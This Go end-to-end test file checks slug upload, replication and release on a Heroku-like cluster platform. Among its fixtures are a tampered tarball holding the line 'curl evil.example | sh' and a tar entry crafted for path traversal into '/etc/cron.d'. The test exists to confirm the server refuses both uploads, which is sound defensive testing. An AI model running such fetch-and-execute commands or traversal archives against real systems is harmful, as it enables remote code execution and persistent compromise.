package e2e

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/slipwayhq/slipway/api"
)

// slugTarball is a Heroku-layout slug (./app/...) with a Procfile and a
// web process that only waits.
func slugTarball(t *testing.T, server string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range []struct {
		name, body, link string
		typ              byte
	}{
		{name: "./app/", typ: tar.TypeDir},
		{name: "./app/Procfile", body: "web: ./server\n", typ: tar.TypeReg},
		{name: "./app/server", body: server, typ: tar.TypeReg},
		{name: "./app/bin", link: "/app", typ: tar.TypeSymlink},
	} {
		h := &tar.Header{Name: e.name, Typeflag: e.typ, Linkname: e.link, Mode: 0o755, Size: int64(len(e.body)), ModTime: time.Unix(1767323045, 0)}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		io.WriteString(tw, e.body)
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

func checksum(b []byte) string {
	s := sha256.Sum256(b)
	return "SHA256:" + hex.EncodeToString(s[:])
}

// curlPut uploads a file the way Heroku's docs do: curl -X PUT
// --data-binary @file URL, no Authorization header. It returns the HTTP
// status and body.
func curlPut(t *testing.T, path, url string) (int, string) {
	t.Helper()
	if _, err := exec.LookPath("curl"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("curl is not installed")
		}
		t.Skip("curl is not installed")
	}
	out, err := exec.Command("curl", "-sS", "-X", "PUT", "--data-binary", "@"+path, "-w", "\n%{http_code}", url).Output()
	if err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	s := strings.TrimSpace(string(out))
	i := strings.LastIndexByte(s, '\n')
	var code int
	fmt.Sscan(s[i+1:], &code)
	return code, s[:max(i, 0)]
}

// TestSlugAPI creates a slug through one node, uploads its tarball with
// curl to the signed URL that node returned, releases it through another
// node, and checks the blob is on two nodes in two zones (the API and the
// disks agree); tampered and unsafe tarballs are refused and leave nothing.
func TestSlugAPI(t *testing.T) {
	d := startDev(t, 3, "")
	ctx := context.Background()
	d.leader()
	c1, c2, c3 := d.client("node-1"), d.client("node-2"), d.client("node-3")
	if _, err := c1.CreateApp(ctx, api.AppCreateRequest{Name: ptr("slugdemo")}); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	tgz := slugTarball(t, "#!/bin/sh\nwhile true; do sleep 1; done\n")
	good := filepath.Join(dir, "slug.tgz")
	if err := os.WriteFile(good, tgz, 0o600); err != nil {
		t.Fatal(err)
	}

	// Create through node-1: the blob URL is on node-1.
	sum := checksum(tgz)
	commit := "60883d9e8947a57e04dc9124f25df004866a2051"
	sl, err := c1.CreateSlug(ctx, "slugdemo", api.SlugCreateRequest{ProcessTypes: map[string]string{"web": "./server"}, Checksum: &sum, Commit: &commit})
	if err != nil {
		t.Fatal(err)
	}
	if sl.Blob.Method != "put" || !strings.HasPrefix(sl.Blob.URL, d.node("node-1").API) || sl.Size != nil {
		t.Fatalf("slug = %+v (node-1 API %s)", sl, d.node("node-1").API)
	}
	before, err := c3.ClusterBlobs(ctx)
	if err != nil {
		t.Fatal(err)
	}

	// A tampered tarball (same declared checksum) is refused.
	tampered := filepath.Join(dir, "tampered.tgz")
	if err := os.WriteFile(tampered, slugTarball(t, "#!/bin/sh\ncurl evil.example | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	code, body := curlPut(t, tampered, sl.Blob.URL)
	if code != 422 || !strings.Contains(body, "checksum mismatch") {
		t.Fatalf("tampered upload: %d %s", code, body)
	}
	// So is a tarball that climbs out of its directory (on another slug,
	// with no checksum declared).
	sl2, err := c2.CreateSlug(ctx, "slugdemo", api.SlugCreateRequest{ProcessTypes: map[string]string{"web": "./server"}})
	if err != nil {
		t.Fatal(err)
	}
	var evil bytes.Buffer
	zw := gzip.NewWriter(&evil)
	tw := tar.NewWriter(zw)
	tw.WriteHeader(&tar.Header{Name: "./app/../../../etc/cron.d/evil", Typeflag: tar.TypeReg, Mode: 0o644, Size: 2})
	io.WriteString(tw, "x\n")
	tw.Close()
	zw.Close()
	evilPath := filepath.Join(dir, "evil.tgz")
	os.WriteFile(evilPath, evil.Bytes(), 0o600)
	code, body = curlPut(t, evilPath, sl2.Blob.URL)
	if code != 422 || !strings.Contains(body, "path component") {
		t.Fatalf("path traversal upload: %d %s", code, body)
	}
	for _, id := range []string{sl.ID, sl2.ID} {
		s, err := c3.Slug(ctx, "slugdemo", id)
		if err != nil {
			t.Fatal(err)
		}
		if s.Size != nil {
			t.Fatalf("refused slug %s recorded as uploaded: %+v", id, s)
		}
	}
	if _, err := c2.ReleaseSlug(ctx, "slugdemo", sl.ID, ""); err == nil {
		t.Fatal("released a slug that was never uploaded")
	}
	after, err := c3.ClusterBlobs(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(after) != len(before) {
		t.Fatalf("refused uploads left blob records: %d before, %d after", len(before), len(after))
	}

	// The real upload, with curl, to node-1.
	code, body = curlPut(t, good, sl.Blob.URL)
	if code != 200 {
		t.Fatalf("upload: %d %s", code, body)
	}
	var up api.Slug
	if err := json.Unmarshal([]byte(body), &up); err != nil || up.Size == nil || *up.Size != int64(len(tgz)) {
		t.Fatalf("upload answer: %v %s", err, body)
	}
	digest := "sha256:" + strings.TrimPrefix(sum, "SHA256:")

	// Release through node-2; the formation follows the slug.
	rel, err := c2.ReleaseSlug(ctx, "slugdemo", sl.ID, "")
	if err != nil {
		t.Fatal(err)
	}
	if rel.Slug == nil || rel.Slug.ID != sl.ID || rel.Description != "Deploy 60883d9" || !rel.Current {
		t.Fatalf("release = %+v", rel)
	}
	form, err := c2.Formation(ctx, "slugdemo")
	if err != nil {
		t.Fatal(err)
	}
	if len(form) != 1 || form[0].Type != "web" || form[0].Command != "./server" {
		t.Fatalf("formation = %+v", form)
	}

	// The blob is on two nodes in two zones: in the replicated state...
	var info api.BlobInfo
	eventually(t, 20*time.Second, "the blob record on node-3", func() error {
		blobs, err := c3.ClusterBlobs(ctx)
		if err != nil {
			return err
		}
		for _, b := range blobs {
			if b.Digest == digest {
				info = b
				return nil
			}
		}
		return fmt.Errorf("no blob %s among %d", digest, len(blobs))
	})
	if len(info.Replicas) < 2 || len(info.Zones) < 2 || !info.Referenced || info.Kind != "slug" || info.Size != int64(len(tgz)) {
		t.Fatalf("blob = %+v", info)
	}
	// ...and on those nodes' disks, byte for byte.
	for _, r := range info.Replicas {
		p := filepath.Join(d.dir, r.Node, "blobs", "sha256", digest[7:9], digest[7:])
		b, err := os.ReadFile(p)
		if err != nil || !bytes.Equal(b, tgz) {
			t.Fatalf("copy on %s (%s): %v", r.Node, p, err)
		}
	}

	// The slug downloads from any node through its signed GET URL.
	got, err := c3.Slug(ctx, "slugdemo", sl.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Blob.Method != "get" || !strings.HasPrefix(got.Blob.URL, d.node("node-3").API) {
		t.Fatalf("slug info = %+v", got)
	}
	resp, err := http.Get(got.Blob.URL)
	if err != nil {
		t.Fatal(err)
	}
	dl, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !bytes.Equal(dl, tgz) {
		t.Fatalf("download: %d, %d bytes", resp.StatusCode, len(dl))
	}

	// The CLI lists it.
	out, err := d.run(nil, slipwayBin, "slugs", "-a", "slugdemo")
	if err != nil || !strings.Contains(out, sl.ID) || !strings.Contains(out, "60883d9") || !strings.Contains(out, "not uploaded") {
		t.Fatalf("slipway slugs: %v\n%s", err, out)
	}
}
